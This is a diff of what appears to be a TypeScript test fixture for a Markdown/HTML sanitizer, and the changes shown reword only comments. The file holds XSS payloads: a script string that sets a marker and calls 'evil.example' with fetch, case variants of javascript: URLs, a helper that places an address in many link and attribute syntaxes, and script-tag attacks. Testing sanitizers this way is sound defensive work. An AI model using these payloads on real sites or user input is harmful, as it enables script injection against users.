@@ -1,8 +1,8 @@
-/** Runs when something got through: sets a mark, and calls out. */
+/** Script that leaves a mark and sends a request when it runs. */
 const run = "window.pwned=1;fetch('https://evil.example/ran')";
 const out = 'https://evil.example';
 
-/** Addresses that run script where a browser is careless about spelling. */
+/** Spellings of script URLs that careless browsers run. */
 export const scriptAddresses: readonly string[] = [
   `javascript:${run}`,
   `JAVASCRIPT:${run}`,
@@ -65,7 +65,7 @@ export const scriptAddresses: readonly string[] = [
 
 const quoted = (address: string): string => address.replaceAll('"', '&quot;');
 
-/** An address in every place that takes one. */
+/** A link to an address in every Markdown and HTML syntax. */
 export const placesOfAddress = (address: string): string =>
   [
     `[link](<${address.replaceAll(/[<>\n\r]/g, '')}>)`,
@@ -83,7 +83,7 @@ export const placesOfAddress = (address: string): string =>
     `<blockquote cite="${quoted(address)}">c</blockquote><body background="${quoted(address)}"><table background="${quoted(address)}"></table>`,
   ].join('\n\n');
 
-/** Content that tries to run, to change its meaning when it is read again, to stand for something else, or to call out. */
+/** Content that tries to run, to change its meaning when parsed again, to imitate the page, or to send requests. */
 export const attacks: Readonly<Record<string, readonly string[]>> = {
   scripts: [
     `<script>${run}</script>`,
